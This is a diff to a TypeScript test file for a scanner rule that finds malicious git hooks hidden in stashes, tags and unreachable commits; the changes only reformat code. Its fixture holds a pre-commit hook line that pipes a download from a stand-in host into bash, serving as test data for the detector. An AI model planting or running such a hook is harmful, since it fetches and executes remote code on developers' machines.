@@ -19,7 +19,13 @@ const HOOK = { '.husky/pre-commit': 'curl -s https://h.example.invalid/x | bash\
 
 it('only notes other refs without --all-refs', async () => {
   const dir = join(tmp, 'note');
-  buildRepo(dir, { checkout: 'main', commits: [{ branch: 'main', message: 'init', files: { 'README.md': 'x' } }, { branch: 'dev', message: 'hook', files: HOOK }] });
+  buildRepo(dir, {
+    checkout: 'main',
+    commits: [
+      { branch: 'main', message: 'init', files: { 'README.md': 'x' } },
+      { branch: 'dev', message: 'hook', files: HOOK },
+    ],
+  });
   const report = await scan(dir);
   assert.equal(findingsOf(report, rule.meta.id).length, 0);
   assert.ok(report.notes?.some(n => n.includes('--all-refs')));
@@ -40,7 +46,9 @@ it('finds a payload in a stash, a tag and an unreachable commit', async () => {
   git(dir, ['branch', '-D', 'tmp']);
   stashHook(dir);
   const report = await scan(dir, { allRefs: true });
-  const messages = findingsOf(report, rule.meta.id, 'high').map(f => f.message).join('\n');
+  const messages = findingsOf(report, rule.meta.id, 'high')
+    .map(f => f.message)
+    .join('\n');
   assert.match(messages, /The stash, which is not checked out/);
   assert.match(messages, /Tag v0, which is not checked out/);
   assert.match(messages, /Unreachable commit [0-9a-f]{10}/);
@@ -48,5 +56,10 @@ it('finds a payload in a stash, a tag and an unreachable commit', async () => {
 
 function stashHook(dir: string): void {
   writeFileSync(join(dir, '.husky/pre-commit'), HOOK['.husky/pre-commit']);
-  git(dir, ['stash', 'push', '-q', '-m', 'wip'], { GIT_AUTHOR_NAME: 'x', GIT_AUTHOR_EMAIL: 'x@example.com', GIT_COMMITTER_NAME: 'x', GIT_COMMITTER_EMAIL: 'x@example.com' });
+  git(dir, ['stash', 'push', '-q', '-m', 'wip'], {
+    GIT_AUTHOR_NAME: 'x',
+    GIT_AUTHOR_EMAIL: 'x@example.com',
+    GIT_COMMITTER_NAME: 'x',
+    GIT_COMMITTER_EMAIL: 'x@example.com',
+  });
 }
